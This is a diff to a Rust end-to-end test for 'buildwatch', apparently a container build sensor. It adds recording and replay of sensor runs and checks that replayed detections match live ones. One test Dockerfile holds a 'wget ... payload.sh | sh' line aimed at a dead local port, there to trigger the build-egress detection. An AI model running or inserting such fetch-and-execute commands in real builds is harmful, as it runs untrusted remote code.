@@ -1,6 +1,11 @@
 //! Detections end to end: the real buildwatch binary watching a real dockerd, registry, podman
 //! and a remote client in a network namespace, asserting what each detection says.
-use std::{path::PathBuf, process::Command, process::ExitCode, time::Duration};
+use std::{
+    ffi::OsStr,
+    path::{Path, PathBuf},
+    process::{Command, ExitCode},
+    time::Duration,
+};
 
 use buildwatch_integration_tests::{
     command::{run, run_command},
@@ -10,6 +15,7 @@ use buildwatch_integration_tests::{
     TempConfig,
 };
 use serde_json::Value;
+use std::collections::BTreeSet;
 
 const TIMEOUT: Duration = Duration::from_secs(60);
 /// A detection must follow its request within a second; the build itself may take longer.
@@ -49,8 +55,9 @@ fn main() -> ExitCode {
     let binary = binary.expect("checked above");
     let env = Environment::start();
     let config = sensor_config(&env, &env.dir.join("sensor-state"));
+    let recording = recordings_dir().join("detection-run.jsonl");
     let world = World {
-        sensor: Sensor::start(&binary, &config),
+        sensor: Sensor::start_with(&binary, &config, &[OsStr::new("--record"), recording.as_os_str()], &[]),
         binary,
         env,
     };
@@ -92,6 +99,15 @@ fn main() -> ExitCode {
             Scenario {
                 name: "ledger_survives_a_restart",
                 run: ledger_survives_a_restart,
+            },
+            Scenario {
+                name: "small_recording_replays_to_its_detections",
+                run: small_recording_replays_to_its_detections,
+            },
+            // Last: stops the main sensor.
+            Scenario {
+                name: "replay_equals_live",
+                run: replay_equals_live,
             },
         ],
     );
@@ -441,6 +457,85 @@ fn ledger_survives_a_restart(world: &World) {
     // history would (checked by local_untagged_build_is_medium and the unit tests).
     let status = second.terminate(Duration::from_secs(15)).expect("the second sensor did not stop");
     assert!(status.success(), "second sensor: {status}\n{}", second.stderr());
+}
+
+fn recordings_dir() -> PathBuf {
+    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("recordings");
+    std::fs::create_dir_all(&dir).expect("creating the recordings directory");
+    dir
+}
+
+/// `buildwatch replay` of a recording: its output lines.
+fn replay(binary: &Path, recording: &Path, all: bool) -> Vec<Value> {
+    let mut command = Command::new(binary);
+    command.arg("replay").arg(recording);
+    if all {
+        command.arg("--all");
+    }
+    let output = command.output().expect("running buildwatch replay");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "replay failed: {stderr}");
+    assert!(!stderr.contains("did not match"), "the recording did not answer the replay: {stderr}");
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("replay prints JSON lines"))
+        .collect()
+}
+
+/// Every detection of the live run, byte for byte, from the replay of its recording.
+fn replay_equals_live(world: &World) {
+    let status = world
+        .sensor
+        .terminate(Duration::from_secs(15))
+        .expect("the main sensor did not stop");
+    assert!(status.success(), "{}", world.sensor.stderr());
+    let live = world.sensor.all(0, |e| kind(e) == "detection");
+    assert!(live.len() >= 8, "the scenarios raised only {} detections", live.len());
+    let replayed = replay(&world.binary, &recordings_dir().join("detection-run.jsonl"), false);
+    assert_eq!(replayed.len(), live.len(), "replay: {replayed:?}");
+    for (live, replayed) in live.iter().zip(&replayed) {
+        assert_eq!(live, replayed, "replay differs from live");
+    }
+    // Not only detections: every event line the engine wrote is reproduced.
+    let live_all = world.sensor.all(0, |e| !kind(e).starts_with("sensor."));
+    let replayed_all = replay(&world.binary, &recordings_dir().join("detection-run.jsonl"), true);
+    assert_eq!(replayed_all.len(), live_all.len());
+    assert!(live_all == replayed_all, "some replayed line differs from the live one");
+}
+
+/// A small recording (only the docker socket, the remote build and a privileged run), the kind
+/// shipped in sensor/testdata/recordings, replays to the detections it was recorded with.
+fn small_recording_replays_to_its_detections(world: &World) {
+    let env = &world.env;
+    let nonce = &env.nonce;
+    let path = recordings_dir().join("remote-build-and-privileged-run.jsonl");
+    let config = TempConfig::new(
+        "recorded",
+        &format!(
+            "[watch]\nunix_sockets = [\"{}\"]\ntcp_ports = [2375]\ndaemons = [\"dockerd\"]\n",
+            env.socket.display()
+        ),
+    );
+    let recorder = Sensor::start_with(&world.binary, &config.path, &[OsStr::new("--record"), path.as_os_str()], &[]);
+    let context = env.context(
+        "recorded",
+        &format!("FROM {BASE_IMAGE}\nRUN wget -q -T 1 -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
+    );
+    let tag = format!("bwdet/recorded:{nonce}");
+    run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
+    let id = run_command(env.remote_docker().args(["create", "--privileged", "--network", "none", &tag, "true"]));
+    run_command(env.docker().args(["rm", id.trim()]));
+    recorder.wait_for(0, TIMEOUT, "the run detection", |e| {
+        kind(e) == "detection" && e["detection"]["rule"] == "run_of_unpulled_image"
+    });
+    let status = recorder.terminate(Duration::from_secs(15)).expect("the recording sensor did not stop");
+    assert!(status.success());
+    let live = recorder.all(0, |e| kind(e) == "detection");
+    let rules: BTreeSet<String> = live.iter().map(|d| d["detection"]["rule"].as_str().unwrap_or_default().to_string()).collect();
+    for rule in ["api_exposed", "build_without_pull", "build_egress", "run_of_unpulled_image"] {
+        assert!(rules.contains(rule), "{rule} missing from the recorded run: {rules:?}");
+    }
+    assert_eq!(replay(&world.binary, &path, false), live);
 }
 
 fn time_ns(event: &Value) -> i128 {
